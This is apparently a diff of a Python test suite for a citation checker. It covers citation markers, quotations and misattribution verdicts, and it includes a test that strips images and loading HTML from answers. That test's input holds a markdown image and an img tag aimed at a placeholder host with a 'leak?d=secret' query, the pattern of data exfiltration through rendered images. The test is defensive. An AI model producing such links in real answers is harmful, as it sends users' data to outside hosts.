@@ -76,16 +76,16 @@ def test_the_same_mark_for_two_statements_is_two_citations():
 
 
 def test_several_marks_on_one_statement():
-    answer = ask("The bridge is old and grey [1][2].")
+    answer = ask("The Avocet bridge was built in 1911 and is painted grey [1][2].")
 
-    assert answer.text == "The bridge is old and grey [1][2]."
+    assert answer.text == "The Avocet bridge was built in 1911 and is painted grey [1][2]."
     assert [one.path for one in answer.citations] == ["a.md", "b.md"]
 
 
 def test_marks_in_code_are_left_alone():
-    answer = ask("Use `list[7]` as in [1].")
+    answer = ask("It was `built[7]` in 1911 [1].", given=result(a_hit("It was built 7 times in 1911."), PAINT))
 
-    assert answer.text == "Use `list[7]` as in [1]."
+    assert answer.text == "It was `built[7]` in 1911 [1]."
     assert [one.marker for one in answer.citations] == [1]
 
 
@@ -135,12 +135,13 @@ def test_a_quotation_of_several_sentences_is_one():
 def test_a_quotation_may_stand_in_any_of_the_passages_named():
     answer = ask('It says "The Avocet bridge was built in 1911" [2][1].')
 
-    assert [(one.marker, one.path) for one in answer.citations] == [(2, "b.md"), (1, "a.md")]
-    assert answer.citations[1].quote == "The Avocet bridge was built in 1911"
+    assert [(one.marker, one.path) for one in answer.citations] == [(1, "a.md")]
+    assert answer.citations[0].quote == "The Avocet bridge was built in 1911"
+    assert [(one.marker, one.verdict) for one in answer.rejected] == [(2, Verdict.MISATTRIBUTED)]
 
 
 def test_short_words_in_quotes_are_no_quotations():
-    assert len(ask('The "old" bridge is grey [2].').citations) == 1
+    assert len(ask('The "Avocet" bridge is grey [2].').citations) == 1
 
 
 # ------------------------------------------------------------------ what must not reach the user
@@ -148,7 +149,8 @@ def test_short_words_in_quotes_are_no_quotations():
 
 def test_images_links_and_loading_html_are_left_out():
     answer = ask(
-        '40 crowns [1]. ![x](http://203.0.113.9/leak?d=secret) <img src="http://203.0.113.9/"> [see](http://x)'
+        '40 crowns [1]. ![x](http://203.0.113.9/leak?d=secret) <img src="http://203.0.113.9/"> [see](http://x)',
+        given=result(a_hit("The total is 40 crowns.")),
     )
 
     assert answer.text == "40 crowns [1]. see"
